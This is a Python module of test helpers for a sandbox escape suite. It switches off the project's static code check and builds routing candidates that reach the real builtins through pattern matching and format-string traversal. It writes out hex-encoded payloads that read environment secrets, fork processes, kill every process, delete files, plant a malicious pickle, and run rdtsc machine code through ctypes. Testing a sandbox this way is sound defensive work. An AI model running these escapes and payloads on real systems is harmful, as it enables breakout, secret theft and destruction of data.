"""The attacker's toolkit for the escape suite: routing candidates that run arbitrary Python
with the real builtins, and the payloads they run once out. The static check
(`blis_simpy.search.code.check`) refuses every route here today; the suite lifts it in the
evaluator (`UNCHECKED`, `unchecked`) so what it tests is the operating system's boundary alone,
as if an attacker had found the next way past the first filter.

Routes (issue 29, class 1):
* `match`: names in pattern matching (`case object(__globals__=g)`) are plain strings in the
  syntax tree; the check let them through until newcomer 16 (it refuses them now). From the
  policy base class's `__init__` (a Python function: the decision types are named tuples,
  whose `__init__` is C's) to its module's globals and the real builtins.
* `format`: format-string attribute traversal with names assembled at run time
  (`"{0.__globals__[sys]...}".format(...)`): reads only, used for the environment (the check
  refuses it since session 19: `format` on a string literal only).

A payload prints what it got; the sandbox returns the printed text with the row (`log`), so a
test sees what an escape reached. Payloads are sent hex-encoded: no `__` in a constant.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest

import blis_simpy.search.sweep
from blis_simpy.search.code import CodePolicy

# `python -c UNCHECKED ARGS...` is `blis-simpy ARGS...` with the static check lifted in the
# evaluator (the sandbox never runs it; the evaluator's sweep does, before a candidate starts)
UNCHECKED = ("import blis_simpy.search.sweep as sweep; sweep.check = lambda code: None; "
             "from blis_simpy.cli import main; main()")


@contextmanager
def unchecked() -> Iterator[None]:
    """This process's sweeps with the static check lifted (the escape suite's candidates)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(blis_simpy.search.sweep, "check", lambda code: None)
        yield

RETURN = ("        return RoutingDecision(snapshots[0].id, 'first', "
          "tuple(1.0 for _ in snapshots))\n")
HEADER = """
class Policy(RoutingPolicy):
    ran = False

    def route(self, req, priority, snapshots, state, clock):
        if not self.ran:
            self.ran = True
"""
ROUTES = {
    "match": """            u = "_" + "_"
            match RoutingPolicy:
                case object(__init__=init):
                    pass
            match init:
                case object(__globals__=g):
                    pass
            real = g[u + "builtins" + u]
            if not isinstance(real, dict):
                match real:
                    case object(__dict__=d):
                        real = d
            real["exec"](bytes.fromhex(PAYLOAD).decode(), {u + "builtins" + u: real})
""",
}


def escaping(payload: str, route: str = "match", name: str = "") -> CodePolicy:
    """A routing candidate that runs `payload` (Python source) with the real builtins on its
    first decision, then routes every request to the first instance."""
    encoded = payload.encode().hex()
    body = ROUTES[route].replace("PAYLOAD_HEX", repr(encoded))
    source = f"PAYLOAD = {encoded!r}\n" + HEADER + body + RETURN
    return CodePolicy("routing", source, id=name or f"escape-{route}")


def format_env() -> CodePolicy:
    """The environment read through format-string traversal (no call, no escape needed)."""
    source = """import statistics

class Policy(RoutingPolicy):
    def route(self, req, priority, snapshots, state, clock):
        u = "_" + "_"
        print(("{0." + u + "globals" + u + "[sys].modules[os].environ}").format(statistics.mean))
""" + RETURN
    return CodePolicy("routing", source, id="escape-format")


def attempt(label: str, code: str) -> str:
    """Payload lines that run `code` and print `label: <outcome>` (the value, or the error)."""
    body = "\n".join("    " + line for line in code.strip().splitlines())
    return (f"try:\n{body}\n    print({label!r} + ': reached ' + repr(result)[:300])\n"
            f"except BaseException as exc:\n"
            f"    print({label!r} + ': ' + type(exc).__name__ + ' ' + str(exc)[:200])\n")


def read_file(path: str) -> str:
    return attempt("read-file", f"result = open({path!r}).read()")


READ_ENV = attempt("read-env", "import os\nresult = dict(os.environ)") + attempt(
    "read-proc-environ", "result = open('/proc/1/environ', 'rb').read()")


def connect(port: int) -> str:
    return attempt("network", "import socket\ns = socket.socket()\ns.settimeout(2)\n"
                   f"s.connect(('127.0.0.1', {port}))\ns.sendall(b'escaped')\n"
                   "result = 'connected'")


def spawn(marker: str) -> str:
    return attempt("fork", "import os\nresult = os.fork()\nif result == 0:\n"
                   "    import time\n    time.sleep(600)") + attempt(
        "spawn", f"import os\nresult = os.posix_spawn('/bin/sleep', ['sleep', '600', "
        f"{marker!r}], {{}})") + attempt("subprocess", "import subprocess\n"
                                         "result = subprocess.Popen(['sleep', '600'])")


KILL = attempt("kill-parent", "import os, signal\nresult = os.kill(os.getppid(), "
               "signal.SIGKILL)") + attempt(
    "kill-all", "import os, signal\nresult = os.kill(-1, signal.SIGKILL)")


def write_file(path: str) -> str:
    return attempt("write-file", f"result = open({path!r}, 'w').write('escaped')") + attempt(
        "delete-file", f"import os\nresult = os.unlink({path!r})")


def forge(marker: str) -> str:
    """Write forged replies to every descriptor: a routing reply, a row with fitness 1, and a
    pickle that would create `marker` if anything unpickled it."""
    pickled = ("import pickle, os\n"
               "class Boom:\n"
               "    def __reduce__(self):\n"
               f"        return (os.system, ('touch {marker}',))\n"
               "bomb = pickle.dumps(Boom())\n")
    return pickled + attempt(
        "forge", "import os\nforged = b'[\"ok\",\"instance_0\",\"forged\",[1.0,1.0],null,[]]\\n'"
        " + b'{\"fitness\": 1.0, \"score\": 1.0}\\n' + bomb\nresult = []\n"
        "for fd in range(64):\n    try:\n        result.append(os.write(fd, forged))\n"
        "    except OSError:\n        pass")


# The pid, entropy and signal handlers an escaped candidate may look at.
PROBES = attempt("pid", "import os\nresult = os.getpid()") + attempt(
    "entropy", "import os\nresult = os.urandom(8)") + attempt(
    "signal-handler", "import signal\nresult = signal.signal(signal.SIGXCPU, "
    "lambda *a: None)")
# Every way found to read a clock, each a candidate of its own: each fails or reads 0 (the
# vDSO's clock data is zeroed; the kernel's clocks are refused by the filter), but rdtsc in
# machine code through ctypes (a known gap: docs/security.md).
RDTSC = """import ctypes
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                      ctypes.c_int, ctypes.c_long)
page = libc.mmap(None, 4096, 7, 0x22, -1, 0)
code = bytes.fromhex("0f3148c1e2204809d0c3")  # rdtsc; shl rdx, 32; or rax, rdx; ret
ctypes.memmove(page, code, len(code))
result = ctypes.CFUNCTYPE(ctypes.c_uint64)(page)()"""
CLOCKS = {
    "time": "import time\nresult = time.time()",
    "monotonic": "import time\nresult = time.monotonic_ns()",
    "coarse": "import time\nresult = time.clock_gettime(6)",  # CLOCK_MONOTONIC_COARSE
    "cpu-time": "import time\nresult = time.process_time()",
    "sleep": "import time\nresult = time.sleep(0.01)",
    "libc-time": "import ctypes\nresult = ctypes.CDLL(None).time(None)",
    "rdtsc": RDTSC,
}
